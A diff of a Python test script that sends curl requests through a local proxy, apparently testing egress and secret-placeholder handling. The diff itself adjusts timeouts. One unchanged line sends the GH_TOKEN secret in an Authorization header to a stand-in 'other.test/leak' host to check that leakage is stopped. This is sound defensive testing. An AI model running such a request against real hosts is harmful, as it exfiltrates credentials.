@@ -220,8 +220,8 @@ out = {}
 proxy = ("127.0.0.1", int(os.environ["HTTPS_PROXY"].rsplit(":", 1)[1]))
 ctx = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
 
-def curl(*args):
-    r = subprocess.run(["curl", "-sS", "--max-time", "40", "-o", "/dev/null", "-w",
+def curl(*args, max_time=40):
+    r = subprocess.run(["curl", "-sS", "--max-time", str(max_time), "-o", "/dev/null", "-w",
                         "%{http_code}", *args], capture_output=True, text=True)
     return r.stdout.strip() or r.stderr.strip()[:60]
 
@@ -299,7 +299,9 @@ out["post_benign"] = curl("-d", "note=hello world", "https://other.test/post")
 out["post_too_big"] = curl("--data-binary", "@-", "https://other.test/post", "-H",
                            "content-type: text/plain") if False else None
 open("/tmp/big", "w").write("z" * 200_000)
-out["post_too_big"] = curl("--data-binary", "@/tmp/big", "https://other.test/post")
+# refused at its headers (size-cap); the 413 does not reach curl while it still sends the
+# body, so curl ends at --max-time with "000": 8 s, not the 40 that made this world 45 s
+out["post_too_big"] = curl("--data-binary", "@/tmp/big", "https://other.test/post", max_time=8)
 out["placeholder_elsewhere"] = curl("https://other.test/leak", "-H",
                                    "Authorization: Bearer " + os.environ["GH_TOKEN"])
 out["legit_swap"] = curl("https://api.test/echo", "-H", "Authorization: Bearer " +
